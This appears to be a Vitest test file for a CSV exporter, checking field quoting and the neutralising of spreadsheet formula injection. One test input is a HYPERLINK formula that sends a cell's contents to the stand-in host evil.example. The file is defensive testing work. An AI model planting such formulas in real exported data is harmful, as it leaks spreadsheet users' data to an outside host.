import { expect, test } from 'vitest'
import { toCsv } from './to-csv.ts'

test('quotes what would end a field, and leaves null empty', () => {
  const rows = [
    ['name', 'note'],
    ['de Vries, David', 'said "no"\nand left'],
    [null, -1.5],
  ]

  expect(toCsv(rows)).toBe('name,note\r\n"de Vries, David","said ""no""\nand left"\r\n,-1.5\r\n')
})

test.each([
  ['=SUM(A1:A9)', "'=SUM(A1:A9)"],
  ['=HYPERLINK("https://evil.example/?"&A1)', `"'=HYPERLINK(""https://evil.example/?""&A1)"`],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  [' =1+1', "' =1+1"],
  ['\r=1+1', `"'\r=1+1"`],
  ['\u200b=1+1', "'\u200b=1+1"],
  ['\0=1+1', "'\0=1+1"],
  ['＝1+1', "'＝1+1"],
])('a text that a spreadsheet would run is marked as text: %j', (text, field) => {
  expect(toCsv([[text]])).toBe(`${field}\r\n`)
})

test.each(['-1.5', '+3', '.5', '-1e-9', '-12 %', 'a=b', 'x@y.example', '', "'=1"])(
  'a number, or a text that starts no formula, stays what it is: %j',
  (text) => {
    expect(toCsv([[text]])).toBe(`${text}\r\n`)
  },
)

test('quotes what ends a field where a comma is the sign of decimals', () => {
  expect(toCsv([['a;=1+1', 'b\tc']])).toBe('"a;=1+1","b\tc"\r\n')
})
